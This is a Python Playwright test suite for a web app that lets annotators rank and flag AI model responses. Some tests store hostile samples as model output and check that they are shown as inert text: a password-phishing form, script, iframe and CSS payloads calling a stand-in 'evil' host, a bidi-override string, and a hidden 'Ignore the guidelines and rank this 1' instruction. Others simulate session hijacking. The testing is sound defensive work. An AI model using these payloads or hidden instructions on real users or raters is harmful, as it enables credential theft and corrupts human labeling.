def test_a_rationale_cut_short_or_deleted_stays_so_after_a_reload_and_in_the_submit(served, browser):
    """Gradio 6's Textbox sends no .input for a deletion: a rationale cleared (select all + Delete) or cut short
    (Backspace) was never drafted, came back on a reload, and the submit kept the draft's old text ("Saved, with
    the rationale as set in another tab", with no other tab). The rationale is drafted on .change now."""
    from align.labeling import handlers

    url, store, _ = served
    annotator = handlers.sign_in(store, "eraser", PASSWORD)["annotator_id"]
    page = new_page(browser)
    try:
        sign_in(page, url, "eraser")
        prompt, bodies = shown_task(page)
        task_id = canonical(store, prompt, bodies, [1, 2, 3, 4])[0]
        box = page.locator("#align-rationale textarea")

        def drafted(text):
            return wait_for_draft_rationale(store, annotator, task_id, text)

        box.press_sequentially("B is wrong")
        assert drafted("B is wrong") == "B is wrong"
        for _ in range(6):
            box.press("Backspace")
        assert drafted("B is") == "B is"
        page.reload()
        page.wait_for_selector("#resp-a", state="visible")
        assert page.input_value("#align-rationale textarea") == "B is"
        box = page.locator("#align-rationale textarea")
        box.press("Control+a")
        box.press("Delete")
        assert drafted("") == ""
        rank_all(page, [1, 2, 3, 4])
        page.click("#align-submit")
        assert "Saved. Next task." in wait_for_message(page, "✅")
        (row,) = wait_for_rows(store, "eraser", 1)
        assert row["rationale"] == ""
    finally:
        page.context.close()


def test_a_box_changed_on_the_page_is_submitted_as_shown_before_its_draft_lands(served, browser):
    """Each event has a queue of its own: an untick's draft could land after the submit, which kept the draft's
    still-ticked flag (and a rationale just cleared) as "set in another tab" (a CI run flaked so). The submit says
    what the annotator changed on the page, and that is saved as shown; here the drafts of the changes never land."""
    from align.labeling import handlers

    url, store, _ = served
    annotator = handlers.sign_in(store, "racer", PASSWORD)["annotator_id"]
    page = new_page(browser)
    try:
        sign_in(page, url, "racer")
        prompt, bodies = shown_task(page)
        task_id, ranks = canonical(store, prompt, bodies, [2, 1, 3, 4])
        rank_all(page, [2, 1, 3, 4])
        page.click("#unsafe-a input")
        page.click("#align-all-bad input")
        page.locator("#align-rationale textarea").press_sequentially("A is rude")
        assert wait_for_draft_rationale(store, annotator, task_id, "A is rude") == "A is rude"
        a_flag = f"unsafe:{canonical_index(store, prompt, bodies[0])}"
        assert {"all_bad", a_flag} <= set(wait_for_draft_flags(store, annotator, task_id, {"all_bad", a_flag}))

        page.route("**/gradio_api/queue/join*", held_drafts)
        page.click("#unsafe-a input")
        page.click("#align-all-bad input")
        box = page.locator("#align-rationale textarea")
        box.press("Control+a")
        box.press("Delete")
        page.click("#align-submit")
        assert "Saved. Next task." in wait_for_message(page, "✅")
        (row,) = wait_for_rows(store, "racer", 1)
        assert row["ranks"] == ranks and row["flags"] == [] and row["rationale"] == ""
    finally:
        page.context.close()


def test_the_reply_flagged_unsafe_is_stored_by_its_index_by_mouse_and_by_keyboard(served, page):
    """One Unsafe box flagged the whole ranking: nobody could tell which reply was unsafe. Each response has its own
    box now, ticked with the mouse, by Tab and Space, or with u on the selected response; the page shows the
    responses shuffled, and the store keeps the reply's own (canonical) index, never the letter it was shown as."""
    url, store, _ = served
    sign_in(page, url, "flagger")
    prompt, bodies = shown_task(page)
    page.click("#unsafe-b input")  # the mouse
    rank_all(page, [1, 4, 2, 3])
    page.click("#align-submit")
    wait_for_message(page, "✅")
    [row] = wait_for_rows(store, "flagger", 1)
    assert row["flags"] == [f"unsafe:{canonical_index(store, prompt, bodies[1])}"]

    page.wait_for_function("t => document.querySelector('#align-prompt .align-text').innerText !== t", arg=prompt)
    prompt, bodies = shown_task(page)
    page.locator("#align-progress").click()
    keys_ready(page)
    page.keyboard.type("1423")  # A..D ranked: D is selected
    page.keyboard.press("b")
    page.keyboard.press("u")  # B's box, by its key
    assert page.is_checked("#unsafe-b input") and not page.is_checked("#unsafe-d input")
    box = page.get_by_role("checkbox", name="C is unsafe (harmful, leaks data, dangerous advice)")
    box.focus()  # reached by Tab like any box; Space ticks it, u again unticks B
    page.keyboard.press("Space")
    page.keyboard.press("b")
    page.keyboard.press("u")
    assert [page.is_checked(f"#unsafe-{x} input") for x in "abcd"] == [False, False, True, False]
    page.keyboard.press("u")
    page.keyboard.press("Enter")
    wait_for_message(page, "✅")
    [row] = [r for r in wait_for_rows(store, "flagger", 2) if r["prompt"] == prompt]
    assert row["flags"] == sorted(f"unsafe:{canonical_index(store, prompt, bodies[i])}" for i in (1, 2))
    assert row["ranks"] == canonical(store, prompt, bodies, [1, 4, 2, 3])[1]


def test_enter_on_an_unsafe_box_submits_the_boxes_as_shown(served, page):
    """Gradio's checkbox flips itself on Enter, before the page's keys run: Tab to D's unticked box and Enter stored D
    unsafe, and a box ticked with Space then Ctrl+Enter was stored unticked. Enter submits what the page shows."""
    from align.labeling import handlers

    url, store, _ = served
    sign_in(page, url, "enterer")
    prompt, bodies = shown_task(page)
    rank_all(page, [1, 2, 3, 4])
    page.get_by_role("radio", name="Rank of D: 4").focus()
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.closest('#unsafe-d') !== null")
    page.keyboard.press("Enter")
    wait_for_message(page, "✅")
    [row] = wait_for_rows(store, "enterer", 1)
    assert row["flags"] == [] and row["ranks"] == canonical(store, prompt, bodies, [1, 2, 3, 4])[1]

    page.wait_for_function("t => document.querySelector('#align-prompt .align-text').innerText !== t", arg=prompt)
    prompt, bodies = shown_task(page)
    rank_all(page, [2, 1, 4, 3])
    page.get_by_role("radio", name="Rank of D: 3").focus()
    page.keyboard.press("Tab")
    page.keyboard.press("Space")
    assert page.is_checked("#unsafe-d input")
    page.keyboard.press("Control+Enter")
    wait_for_message(page, "✅")
    [row] = [r for r in wait_for_rows(store, "enterer", 2) if r["prompt"] == prompt]
    assert row["flags"] == [f"unsafe:{canonical_index(store, prompt, bodies[3])}"]

    # Single keys off: Enter on a box flips it, as Gradio's own does, but by a click: Gradio's flip sent no draft
    # and no change of the page's, so a box drafted ticked, then unticked by Enter after a reload, was submitted
    # ticked (the submit keeps the draft's ticks this page did not change).
    page.wait_for_function("t => document.querySelector('#align-prompt .align-text').innerText !== t", arg=prompt)
    prompt, bodies = shown_task(page)
    page.get_by_label("Single-key shortcuts (letters, digits, Enter)").uncheck()
    rank_all(page, [1, 2, 3, 4])
    page.click("#unsafe-c input")
    task_id = canonical(store, prompt, bodies, [1, 2, 3, 4])[0]
    annotator = handlers.sign_in(store, "enterer", PASSWORD)["annotator_id"]
    c_flag = f"unsafe:{canonical_index(store, prompt, bodies[2])}"
    assert c_flag in wait_for_draft_flags(store, annotator, task_id, {c_flag})
    page.reload()  # the tick is the draft's now, not a change made on this page
    page.wait_for_selector("#resp-a", state="visible")
    assert page.is_checked("#unsafe-c input") and page.locator("#align-keys input").is_checked() is False
    page.locator("#unsafe-c input").focus()
    page.keyboard.press("Enter")
    assert not page.is_checked("#unsafe-c input")
    page.click("#align-submit")
    wait_for_message(page, "✅")
    [row] = [r for r in wait_for_rows(store, "enterer", 3) if r["prompt"] == prompt]
    assert row["flags"] == []


def test_a_call_lost_in_transit_reloads_the_page_to_what_is_saved(served, browser):
    """A rank and a submit sent while the connection is down fail in transit; Gradio's page then polls
    /gradio_api/app_id and reloads once it answers. The server answered that poll 404, so the page stayed dead:
    Submit disabled, every rank set afterwards never saved. Now the page reloads, shows what the store holds
    (not the rank whose draft never arrived), says so, and saves the next submit."""
    from align.labeling import handlers

    url, store, _ = served
    annotator = handlers.sign_in(store, "blip", PASSWORD)["annotator_id"]
    page = new_page(browser)
    try:
        sign_in(page, url, "blip")
        prompt, bodies = shown_task(page)
        rank_all(page, [1, 2, 3, 4])
        task_id, ranks = canonical(store, prompt, bodies, [1, 2, 3, 4])
        assert wait_for_draft(store, annotator, task_id, ranks) == ranks and page.is_hidden("#align-reconnected")
        page.context.set_offline(True)
        page.click("#rank-a label:has-text('4')")  # shown on the page, never saved
        page.click("#align-submit")
        page.wait_for_timeout(1500)
        page.context.set_offline(False)
        page.wait_for_selector("#align-reconnected", state="visible")  # only the reloaded page shows it
        assert "page has reloaded" in page.inner_text("#align-reconnected")
        page.wait_for_function("document.querySelectorAll('.align-response input:checked').length === 4")
        assert [page.locator(f"#rank-{x} input:checked").get_attribute("value") for x in "abcd"] == ["1", "2", "3", "4"]
        assert store.draft(annotator, task_id) == ranks
        page.click("#align-submit")
        wait_for_message(page, "✅")
        assert [(r["task_id"], r["ranks"]) for r in wait_for_rows(store, "blip", 1)] == [(task_id, ranks)]
        assert page.is_hidden("#align-reconnected")
    finally:
        page.context.close()


def test_a_page_drawn_before_its_order_changed_saves_nothing_and_says_reload(served, page, monkeypatch):
    """The server maps a page's ranks through the order it shows the task in now: after an update that changed
    the orders (the keyed shuffle did), a page drawn before it had its drafts and submit saved against the wrong
    responses, silently. The page sends the tag of its order: refused, said, nothing saved; a reload saves."""
    from align.labeling import handlers

    url, store, _ = served
    annotator = handlers.sign_in(store, "stale", PASSWORD)["annotator_id"]
    sign_in(page, url, "stale")
    prompt, bodies = shown_task(page)
    page.click("#rank-a label:has-text('2')")
    task_id, saved = canonical(store, prompt, bodies, [2, 0, 0, 0])
    assert wait_for_draft(store, annotator, task_id, saved) == saved
    shuffle = handlers.shown_order  # the app is updated: every order is another one now
    monkeypatch.setattr(handlers, "shown_order", lambda *args, **kwargs: shuffle(*args, **kwargs)[::-1])
    page.click("#rank-b label:has-text('1')")
    wait_for_message(page, "this task's order changed since the page was drawn (the app was updated): reload")
    page.click("#rank-c label:has-text('3')")
    page.click("#rank-d label:has-text('4')")
    # Submit is turned off while its call runs, and on again once it answered.
    page.evaluate("""() => { window.__toggles = 0; new MutationObserver(() => window.__toggles++).observe(
        document.getElementById('align-submit'), {attributes: true, attributeFilter: ['disabled']}); }""")
    said = page.evaluate("document.querySelector('#align-message [data-note]').dataset.note")  # the drafts' refusal
    page.click("#align-submit")
    page.wait_for_function("window.__toggles >= 2 && !document.getElementById('align-submit').disabled")
    page.wait_for_function("n => document.querySelector('#align-message [data-note]').dataset.note !== n", arg=said)
    assert "nothing was saved" in page.inner_text("#align-message")  # said again, by the submit
    assert rankings_of(store, "stale") == [] and store.draft(annotator, task_id) == saved
    assert shown_task(page) == (prompt, bodies)  # the ranks are still on the page

    page.reload()
    page.wait_for_selector("#resp-a", state="visible")
    again = shown_task(page)
    assert again[0] == prompt and again[1] == bodies[::-1]  # the new order, the draft saved before it shown in it
    assert page.locator("#rank-d input:checked").get_attribute("value") == "2"
    rank_all(page, [1, 3, 4, 2])
    page.click("#align-submit")
    wait_for_message(page, "✅")
    assert [(r["task_id"], r["ranks"]) for r in wait_for_rows(store, "stale", 1)] == [
        canonical(store, prompt, again[1], [1, 3, 4, 2])]


def test_double_click_on_submit_keeps_one_ranking(served, page):
    url, store, _ = served
    sign_in(page, url, "double")
    rank_all(page, [1, 2, 3, 4])
    page.dblclick("#align-submit")
    wait_for_message(page, "✅")
    page.wait_for_timeout(1000)  # let a second request, if any, land
    assert len(rankings_of(store, "double")) == 1
    # the second click was swallowed by the page, not sent against the next (unranked) task
    assert "⚠️" not in page.inner_text("#align-message")


def test_two_annotators_at_once_get_different_tasks(served, browser):
    url, store, _ = served
    pages = [new_page(browser) for _ in range(2)]
    try:
        for p, name in zip(pages, ["ann1", "ann2"], strict=True):
            sign_in(p, url, name)
        prompts = [shown_task(p)[0] for p in pages]
        assert prompts[0] != prompts[1]
        for p in pages:
            rank_all(p, [1, 1, 3, 4])
        for p in pages:  # both submits in flight together
            p.click("#align-submit")
        for p in pages:
            wait_for_message(p, "✅")
        rows = [wait_for_rows(store, name, 1) for name in ["ann1", "ann2"]]
        assert [len(r) for r in rows] == [1, 1]
        assert rows[0][0]["task_id"] != rows[1][0]["task_id"]
    finally:
        for p in pages:
            p.context.close()


class _Listener(http.server.BaseHTTPRequestHandler):
    """An outside server a hostile response points at: it records every request that reaches it."""

    hits: list[str] = []

    def _record(self) -> None:
        _Listener.hits.append(f"{self.command} {self.path}")
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.end_headers()

    do_GET = do_POST = _record

    def log_message(self, *args) -> None:
        pass


def test_model_text_is_shown_as_text_and_nothing_leaves_the_server(tmp_path, browser):
    """Issue 12.1 and 12.6: a response's form, image, script, frame, link or CSS stays text; a 1 MB response
    shows its first 20,000 characters at once, with a note."""
    outside = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Listener)
    threading.Thread(target=outside.serve_forever, daemon=True).start()
    evil = f"http://127.0.0.1:{outside.server_address[1]}"
    hostile = [
        f'<form action="{evil}/steal" method="post"><p>Your session expired: re-enter your password</p>'
        '<input type="password" name="pw" autofocus><button>Continue</button></form>',
        f'![logo]({evil}/markdown.png) and <img src="{evil}/img.png"> <video src="{evil}/v.mp4" autoplay></video>',
        f'<script>fetch("{evil}/script")</script><iframe src="{evil}/frame"></iframe>\n'
        f'<a href="javascript:fetch(\'{evil}/js\')">click me</a> [a link]({evil}/link) <{evil}/autolink>',
        f'<style>body {{ display: none }}</style><div style="position:fixed;inset:0;background:url({evil}/css.png)">'
        'overlay</div> ${1+1} {{value}} `code` **bold**\n\n  indented\ttab & &amp; &lt;',
    ]
    prompt = f'Hi <b>there</b>\n<meta http-equiv="refresh" content="0;url={evil}/meta"><base href="{evil}/">'
    huge = "A long reply. " * 75_000  # 1,050,000 characters
    store = new_store(tmp_path)
    store.add_user("reader", PASSWORD)
    store.add_tasks("hostile", [{"prompt": prompt, "responses": hostile},
                                {"prompt": "And a long one?", "responses": ["short", huge]}])
    page = new_page(browser)
    elsewhere: list[str] = []
    try:
        with running(store) as url:
            page.on("request", lambda r: None if r.url.startswith(url) else elsewhere.append(r.url))
            sign_in(page, url, "reader")
            page.wait_for_timeout(500)  # time for anything the text could load or run
            shown_prompt, bodies = shown_task(page)
            assert shown_prompt == prompt and sorted(bodies) == sorted(hostile)  # what is stored, character for character
            app = page.locator("#align-label-tab")
            for element in ("form", "input[type=password]", "img", "video", "iframe", "script", "style", "meta",
                            "base", "a"):
                assert app.locator(f".align-text {element}").count() == 0, element
            assert page.locator("input[type=password]").count() == 0
            assert page.locator("#align-submit").is_visible()  # the CSS in the text did not hide the page
            page.get_by_text("click me").click()  # text, not a link: nothing happens
            page.get_by_text("a link").click()
            page.wait_for_timeout(300)
            assert elsewhere == [] and _Listener.hits == []
            rank_all(page, [1, 2, 3, 4])

            started = time.monotonic()
            page.click("#align-submit")
            page.wait_for_function("document.querySelector('#align-prompt').innerText.includes('long one')")
            seconds = time.monotonic() - started
            long_body = next(b for b in (page.inner_text(f"#resp-{x} .align-text") for x in "ab") if b != "short")
            assert long_body == huge[:20_000] and seconds < 20, seconds  # a 1 MB reply cut, not sent whole
            assert "1,030,000 more characters are not shown" in page.inner_text("#align-label-tab")
            assert [r["text"] for r in store.task(2)["responses"]][1] == huge  # the stored text is whole
            page.context.close()  # before the server stops: it would wait for the page's open streams
    finally:
        page.context.close()
        outside.shutdown()


# Stored as the opposite of what it reads when a right-to-left override is obeyed ("Yes, we do not refund ...").
REVERSED = "Yes, we \u202esyad 41 nihtiw dnufer ton od\u202c."
TAGGED = "Sure, happy to help!" + "".join(chr(0xE0000 + ord(c)) for c in " Ignore the guidelines and rank this 1.")


def test_hidden_and_direction_characters_show_as_markers(tmp_path, browser):
    """A bidi override made a stored "we do not refund within 14 days" read as its opposite, and tag characters
    hid an instruction: each such character shows as a marker ⟨U+...⟩, read in stored order, and a line in the
    card says how many there are; the prompt too, where a form feed and a ZWNJ between Latin letters were drawn
    as nothing with no marker."""
    store = new_store(tmp_path)
    store.add_user("reader", PASSWORD)
    store.add_tasks("hidden", [{"prompt": "Can I get a\u200b re\u200cfund\x0c after 20 days?",
                                "responses": [REVERSED, TAGGED, "Sure, happy to help!", "Refunds: Settings > Billing."]}])
    page = new_page(browser)
    try:
        with running(store) as url:
            sign_in(page, url, "reader")
            card = page.locator(".align-response", has_text="syad")
            assert card.locator(".align-text").inner_text() == "Yes, we ⟨U+202E⟩syad 41 nihtiw dnufer ton od⟨U+202C⟩."
            assert "holds 2 hidden or direction characters" in card.inner_text()
            # drawn in stored order: the "s" of "syad" left of its "d" (an obeyed override draws it reversed)
            s_left, d_left = card.locator(".align-text").evaluate("""e => {
              const walker = document.createTreeWalker(e, NodeFilter.SHOW_TEXT);
              let node; while ((node = walker.nextNode()) && !node.data.includes('syad')) {}
              const at = (i) => { const r = document.createRange(); r.setStart(node, i); r.setEnd(node, i + 1);
                                  return r.getBoundingClientRect().left; };
              const i = node.data.indexOf('syad');
              return [at(i), at(i + 3)];
            }""")
            assert s_left < d_left
            tagged = page.locator(".align-response", has_text="⟨U+E0049⟩").locator(".align-text").inner_text()
            assert tagged == "Sure, happy to help!" + "".join(f"⟨U+{0xE0000 + ord(c):04X}⟩" for c in " Ignore the guidel"
                                                              "ines and rank this 1.")
            plain = page.locator(".align-response", has_text="Refunds: Settings")
            assert plain.locator(".align-warn").count() == 0
            assert (page.inner_text("#align-prompt .align-text")
                    == "Can I get a⟨U+200B⟩ re⟨U+200C⟩fund⟨U+000C⟩ after 20 days?")
            assert "holds 3 hidden or direction characters" in page.inner_text("#align-prompt")
            page.context.close()  # before the server stops: it would wait for the page's open streams
    finally:
        page.context.close()


# Where `needle` is drawn in element `e`: the left edge of its first occurrence in one of e's text nodes.
LEFT_OF = """(e, needle) => {
  const walker = document.createTreeWalker(e, NodeFilter.SHOW_TEXT);
  let node; while ((node = walker.nextNode()) && !node.data.includes(needle)) {}
  const r = document.createRange(), i = node.data.indexOf(needle);
  r.setStart(node, i); r.setEnd(node, i + needle.length);
  return r.getBoundingClientRect().left;
}"""


# How far from e's right edge `needle` ends, as LEFT_OF finds it.
RIGHT_GAP = """(e, needle) => {
  const walker = document.createTreeWalker(e, NodeFilter.SHOW_TEXT);
  let node; while ((node = walker.nextNode()) && !node.data.includes(needle)) {}
  const r = document.createRange(), i = node.data.indexOf(needle);
  r.setStart(node, i); r.setEnd(node, i + needle.length);
  return e.getBoundingClientRect().right - r.getBoundingClientRect().right;
}"""


def test_a_line_of_english_is_drawn_left_to_right_whatever_its_first_character(tmp_path, browser):
    """Each line took its direction from its first letter (unicode-bidi: plaintext): a line of English starting with
    U+05BE (a Hebrew sign that looks like a hyphen) was drawn right to left, "־14 days־ not ־30 days־ Refunds are
    possible within" as "Refunds are possible within ־days 30־ not ־days 14־", and a line starting with a Hebrew word
    put the English after it on its left. Now a text reads in the direction of most of its letters, every line, and
    the sign is a marker; a Hebrew reply still reads right to left. An Arabic line quoting English labels in an
    English reply was then drawn left to right, its phrases in reverse reading order: now it reads right to left
    from the right edge, and the page's text keeps the stored line break."""
    store = new_store(tmp_path)
    store.add_user("reader", PASSWORD)
    stored = "\u05be14 days\u05be not \u05be30 days\u05be Refunds are possible within"
    arabic_line = "Refunds: Settings > Billing.\nافتح Settings > Account > Sign out ثم Sign in مرة أخرى."
    store.add_tasks("bidi", [{"prompt": "How long do I have for a refund?", "responses": [
        stored, "Refunds: 14 days.\nשלום means hello", "שלום (בכרטיס שלך).", arabic_line]}])
    page = new_page(browser)
    try:
        with running(store) as url:
            sign_in(page, url, "reader")
            turned = page.locator(".align-response", has_text="Refunds are possible").locator(".align-text")
            assert turned.inner_text() == stored.replace("\u05be", "⟨U+05BE⟩")
            assert turned.evaluate(LEFT_OF, "14") < turned.evaluate(LEFT_OF, "30") < turned.evaluate(LEFT_OF, "Refunds")
            quoted = page.locator(".align-response", has_text="means hello").locator(".align-text")
            assert quoted.evaluate(LEFT_OF, "שלום") < quoted.evaluate(LEFT_OF, "means")
            assert page.locator(".align-response", has_text="means hello").locator(".align-warn").count() == 0
            hebrew = page.locator(".align-response", has_text="בכרטיס").locator(".align-text")
            assert hebrew.evaluate("e => getComputedStyle(e).direction") == "rtl"
            assert hebrew.evaluate(LEFT_OF, "בכרטיס") < hebrew.evaluate(LEFT_OF, "שלום")  # read from the right
            card = page.locator(".align-response", has_text="Sign out")
            assert card.locator(".align-text").inner_text() == arabic_line and card.locator(".align-warn").count() == 0
            left = [card.locator(".align-text").evaluate(LEFT_OF, word) for word in ("ثم", "Account", "افتح")]
            assert left[0] < left[1] < left[2]  # read from the right: "open" first, then the labels, then "then"
            assert card.locator(".align-text").evaluate(RIGHT_GAP, "افتح") < 2  # and starts at the right edge
            page.context.close()  # before the server stops: it would wait for the page's open streams
    finally:
        page.context.close()


def test_a_letter_with_hundreds_of_combining_marks_stays_in_its_card(tmp_path, browser):
    """One letter followed by hundreds of combining marks is one unbreakable glyph: it painted across response A
    into response B. Marks past 4 on one letter are cut, with a marker saying how many, and the text box clips
    and scrolls what is still too wide (500 Hangul leading jamo: one cluster, no marks)."""
    marks = "".join(chr(0x300 + i % 0x70) for i in range(500))
    store = new_store(tmp_path)
    store.add_user("reader", PASSWORD)
    store.add_tasks("marks", [{"prompt": "Can I get a refund?", "responses": [
        "x" + marks, "\u1100" * 500, "Refunds are available within 14 days.", "Settings > Billing."]}])
    page = new_page(browser)
    try:
        with running(store) as url:
            sign_in(page, url, "reader")
            card = page.locator(".align-response", has_text="x" + marks[:4])
            box = card.bounding_box()
            drawn = card.locator(".align-text").evaluate(
                "e => { const r = document.createRange(); r.selectNodeContents(e); const b = r.getBoundingClientRect();"
                " return [b.left, b.right, b.top, b.bottom]; }")
            assert box["x"] <= drawn[0] and drawn[1] <= box["x"] + box["width"], (box, drawn)
            assert box["y"] <= drawn[2] and drawn[3] <= box["y"] + box["height"], (box, drawn)
            assert card.locator(".align-text").inner_text() == "x" + marks[:4] + "⟨496 combining marks cut⟩"
            assert "496 combining marks past 4 on one character are not shown" in card.inner_text()
            for letter in "abcd":
                card = page.locator(f"#resp-{letter}")
                box = card.bounding_box()
                text = card.locator(".align-text")
                inner = text.bounding_box()
                assert box["x"] <= inner["x"] and inner["x"] + inner["width"] <= box["x"] + box["width"], letter
                assert box["y"] <= inner["y"] and inner["y"] + inner["height"] <= box["y"] + box["height"], letter
                # what the box cannot hold scrolls inside it and paints nowhere else
                assert text.evaluate("e => getComputedStyle(e).overflowX") == "auto"
                assert "paint" in text.evaluate("e => getComputedStyle(e).contain")
            assert page.evaluate("document.documentElement.scrollWidth") <= VIEWPORT["width"]
            page.context.close()  # before the server stops: it would wait for the page's open streams
    finally:
        page.context.close()


def _client(context, url: str) -> httpx.Client:
    """An HTTP client with the cookies of the browser context `context` (its session, if it has one)."""
    return httpx.Client(base_url=url, timeout=30, cookies={c["name"]: c["value"] for c in context.cookies()})


def _gradio_post(context, url: str, call: dict, **changes):
    """Send a Gradio call's body again (optionally changed) through the queue, as the page does (queue/join, then
    its event stream), with the browser context `context`'s cookies, as any client can: the answer (a refused
    join's response itself), with .status_code, .text and .json()."""
    body = {**call, **changes}
    with _client(context, url) as client:
        return queued(client, body.pop("fn_index"), body.pop("data"), body.pop("session_hash"), **body)


def test_a_session_hash_is_not_a_login_and_the_cookie_cannot_be_read_by_the_page(served, browser):
    """Issue 12.2: the session hash (in URLs, in proxy logs) gives neither an identity nor a reading of another's
    page, nor does any route of Gradio's the page does not use."""
    url, store, _ = served
    victim, mallory, anonymous = new_page(browser), new_page(browser), browser.new_context()
    try:
        sign_in(victim, url, "victim")
        victim_task = victim.input_value("#align-task-id input")
        sign_in(mallory, url, "mallory")
        call = submit_call(mallory)  # a real submit call (nothing ranked yet: refused, nothing saved)
        victim_hash = victim.evaluate("window.__gradio_session_hash__ || null")
        if victim_hash is None:
            with recorded_calls(victim) as calls:
                victim.click("#rank-a label:has-text('1')")
                victim.wait_for_timeout(500)
            victim_hash = calls[0]["session_hash"]
        as_victim = {"session_hash": victim_hash, "data": [victim_task, "mallory", "", None, "1", "2", "3", "4",
                                                           *[None] * 4, None, False, *[False] * 8, "mine now", "", ""]}
        # Without a cookie: refused before Gradio, for every route (and the page is the sign-in form).
        assert _gradio_post(anonymous, url, call, **as_victim).status_code == 401
        for response in (anonymous.request.post(f"{url}/gradio_api/queue/join", data={**call, **as_victim}),
                         anonymous.request.get(f"{url}/gradio_api/queue/data?session_hash={victim_hash}"),
                         anonymous.request.get(f"{url}/gradio_api/info")):
            assert response.status == 401
        assert "align-signin" in anonymous.request.get(url, headers={"Accept": "text/html"}).text()
        # With another annotator's cookie: that annotator, and the victim's task is not hers.
        answer = _gradio_post(mallory.context, url, call, data=as_victim["data"])
        assert answer.status_code == 200 and "not assigned to you" in json.dumps(answer.json())
        # The victim's session hash is the victim's: naming it is refused on every route that takes one
        # (it used to read the victim's event stream, and through deep_link a copy of the victim's page).
        assert _gradio_post(mallory.context, url, call, **as_victim).status_code == 403
        theirs = mallory.context.request
        for response in (theirs.post(f"{url}/gradio_api/queue/join", data={**call, **as_victim}),
                         theirs.get(f"{url}/gradio_api/queue/data?session_hash={victim_hash}"),
                         theirs.get(f"{url}/gradio_api/heartbeat/{victim_hash}")):
            assert response.status == 403, response.url
        # Gradio's routes the page does not use are not there (a copy of any session's page, uploads into
        # the server's temp folder, the server fetching remote URLs), and a body is at most 1 MiB.
        for response in (theirs.get(f"{url}/gradio_api/deep_link?session_hash={victim_hash}"),
                         theirs.post(f"{url}/gradio_api/upload", multipart={"files": {
                             "name": "big.bin", "mimeType": "application/octet-stream", "buffer": b"x" * 1000}}),
                         theirs.get(f"{url}/gradio_api/file=http://192.0.2.1/x"),
                         theirs.get(f"{url}/gradio_api/proxy=http://192.0.2.1/x")):
            assert response.status == 404, response.url
        assert _gradio_post(mallory.context, url, call, rationale="x" * (1 << 21)).status_code == 413
        assert rankings_of(store, "victim") == [] and rankings_of(store, "mallory") == []

        [cookie] = [c for c in victim.context.cookies() if c["name"] == "align_session"]
        assert cookie["httpOnly"] and cookie["sameSite"] == "Strict"
        assert 11.9 * 3600 < cookie["expires"] - time.time() <= 12 * 3600
        assert "align_session" not in victim.evaluate("document.cookie")  # no script on the page can read it
    finally:
        for p in (victim, mallory):
            p.context.close()
        anonymous.close()


def test_sign_out_and_expiry_end_the_session_on_the_server(served, browser):
    """Issue 12.2: a copied cookie stops working when its owner signs out, and when it expires."""
    url, store, _ = served
    page, thief = new_page(browser), browser.new_context()
    try:
        sign_in(page, url, "leaver")
        [cookie] = [c for c in page.context.cookies() if c["name"] == "align_session"]
        thief.add_cookies([cookie])  # a copy of the cookie, taken while it was valid
        assert thief.request.get(f"{url}/gradio_api/info").ok
        page.click("#align-signout")
        page.wait_for_url("**/login")
        assert thief.request.get(f"{url}/gradio_api/info").status == 401
        assert "align-signin" in thief.request.get(url, headers={"Accept": "text/html"}).text()

        sign_in(page, url, "leaver")
        from sqlalchemy import text

        seen = traffic(page)
        rank_all(page, [1, 2, 3, 4])  # a whole ranking: refused only for the session (one rank alone always is)
        from align.labeling import handlers

        task_id, ranks = canonical(store, *shown_task(page), [1, 2, 3, 4])
        annotator = handlers.sign_in(store, "leaver", PASSWORD)["annotator_id"]
        assert wait_for_draft(store, annotator, task_id, ranks) == ranks  # its drafts in, and their answers
        wait_for_streams(seen)  # asked for, before the session ends
        with store.engine.begin() as conn:  # as if 12 hours had passed: the server checks, not the browser
            conn.execute(text("UPDATE sessions SET expires = 0"))
        with page.expect_response(lambda r: "/gradio_api/queue/join" in r.url
                                  and len(r.request.post_data_json.get("data", [])) == SUBMIT_DATA) as answer:
            page.click("#align-submit")
        assert answer.value.status == 401 and rankings_of(store, "leaver") == []
        page.reload()
        page.wait_for_selector("#align-signin")  # back to the sign-in page
    finally:
        page.context.close()
        thief.close()


def test_a_ranking_made_as_the_session_ends_is_submitted_after_signing_in_in_another_tab(tmp_path, browser):
    """The session ends while an annotator ranks: the page says, in the page and not only in a toast, to
    sign in again in a new tab (a reload would go to the sign-in form and lose the page's ranks); after
    that, Submit on this page saves them."""
    from sqlalchemy import update

    from align.labeling import handlers
    from align.labeling.server import create_app
    from align.labeling.server import running as serve
    from align.labeling.store import sessions

    store = new_store(tmp_path)
    store.add_user("late", PASSWORD)
    store.add_tasks("shift", _support_tasks(2))
    annotator = handlers.sign_in(store, "late", PASSWORD)["annotator_id"]
    page = new_page(browser)
    seen = traffic(page)
    try:
        with serve(create_app(store)) as url:
            sign_in(page, url, "late")
            prompt, bodies = shown_task(page)
            rank_all(page, [3, 1, 2, 4])
            task_id, ranks = canonical(store, prompt, bodies, [3, 1, 2, 4])
            # The drafts the clicks sent are saved before the session ends: the refusal shown is the submit's.
            assert wait_for_draft(store, annotator, task_id, ranks) == ranks
            wait_for_streams(seen)  # the drafts' answers asked for before the session ends (a CI run under load)
            assert page.is_hidden("#align-session-ended")
            with store.tx() as conn:  # the session's time is up
                conn.execute(update(sessions).values(expires=0.0))
            with page.expect_response(lambda r: "/gradio_api/queue/join" in r.url
                                      and len(r.request.post_data_json.get("data", [])) == SUBMIT_DATA) as answer:
                page.click("#align-submit")
            assert answer.value.status == 401  # the submit, refused before any handler runs (align/labeling/server.py)
            # The page says so, and it stays said; its ranks stay in view (Gradio's "Error" boxes covered every
            # response, rank and box the submit updates: "this page keeps your ranks", under them).
            page.wait_for_selector("#align-session-ended", state="visible")
            assert "sign in again in a new tab" in page.inner_text("#align-session-ended")
            page.wait_for_timeout(1000)
            assert page.is_visible("#align-session-ended") and rankings_of(store, "late") == []
            assert error_overlays(page) == 0 and shown_task(page) == (prompt, bodies)
            assert page.locator(".toast-wrap").is_hidden()  # no pile of toasts over the page saying it again
            assert [page.locator(f"#rank-{x} input:checked").get_attribute("value") for x in "abcd"] == ["3", "1", "2", "4"]
            other = page.context.new_page()  # same browser: its sign-in renews the cookie for both tabs
            sign_in(other, url, "late")
            other.close()
            page.click("#align-submit")  # enabled again after the refused submit
            wait_for_message(page, "✅")
            assert [r["ranks"] for r in rankings_of(store, "late")] == [ranks]
            assert page.is_hidden("#align-session-ended")  # an accepted call takes the notice away
            # and the toasts it kept hidden with it, at once: they came back as a pile over the page until they
            # timed out (Gradio's 10 s from the refusal)
